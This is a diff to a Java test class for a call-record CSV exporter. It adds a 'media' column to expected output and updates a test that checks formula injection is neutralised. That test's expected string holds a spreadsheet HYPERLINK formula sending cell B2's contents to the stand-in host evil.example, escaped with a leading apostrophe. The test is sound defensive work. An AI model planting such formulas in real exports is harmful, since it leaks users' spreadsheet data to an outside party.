@@ -147,7 +147,7 @@ class CallsOnTheCommandLineTest {
     void noCellOfTheCsvIsAFormula() {
         String csv = calls("src/test/resources/robust/csv.txt", "--format=csv").out();
 
-        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\"\r\n");
+        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\",\r\n");
     }
 
     @Test
@@ -156,9 +156,9 @@ class CallsOnTheCommandLineTest {
         assertThat(lines).hasSize(2);
         assertThat(lines[0])
                 .isEqualTo("start,from,to,method,ending,code,firstSaidBy,messages,retransmissions,postDialDelay,"
-                        + "ringTime,talkTime,callId");
+                        + "ringTime,talkTime,callId,media");
         assertThat(lines[1])
-                .endsWith(",100@example.com,200@example.com,INVITE,rejected,486,192.0.2.2:5060,3,0,,,,call-2");
+                .endsWith(",100@example.com,200@example.com,INVITE,rejected,486,192.0.2.2:5060,3,0,,,,call-2,");
     }
 
     @Test
